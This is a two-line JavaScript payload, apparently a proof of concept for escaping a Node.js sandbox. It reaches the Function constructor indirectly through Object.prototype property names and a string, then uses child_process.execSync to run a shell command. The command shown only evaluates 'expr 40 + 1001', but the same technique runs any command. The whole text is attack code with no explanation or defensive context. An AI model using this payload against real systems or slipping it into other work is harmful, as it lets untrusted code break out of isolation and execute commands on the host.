const k=Object.getOwnPropertyNames(Object.prototype)[0]; const a=''[k];
Reflect.apply(a[k],null,['process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})'])();
